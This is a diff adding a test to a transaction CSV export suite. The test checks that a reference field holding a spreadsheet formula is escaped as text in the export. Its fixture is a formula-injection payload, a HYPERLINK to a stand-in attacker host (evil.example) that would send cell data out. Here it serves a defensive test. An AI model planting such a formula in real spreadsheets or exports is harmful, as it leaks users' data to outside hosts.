@@ -58,6 +58,15 @@ class TransactionExportTests(TestCase):
         rows = read_csv(client_for(staff_make()).get(self.url))
         self.assertEqual({int(row["seller"]) for row in rows}, {self.seller.pk, self.other.pk})
 
+    def test_a_reference_that_is_a_formula_reaches_the_export_as_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        phone_charge_create(
+            seller_id=self.seller.pk, phone_number="+14155550123", amount=1, reference=formula
+        )
+        rows = read_csv(client_for(staff_make()).get(self.url, {"kind": "charge"}))
+        self.assertEqual([row["reference"] for row in rows], ["", "'" + formula])
+        self.assertEqual({row["phone_number"] for row in rows}, {"+14155550123"})
+
     def test_export_without_a_token_is_refused_as_json(self):
         response = self.client.get(self.url, HTTP_ACCEPT="text/csv")
         self.assertEqual(response.status_code, 401)
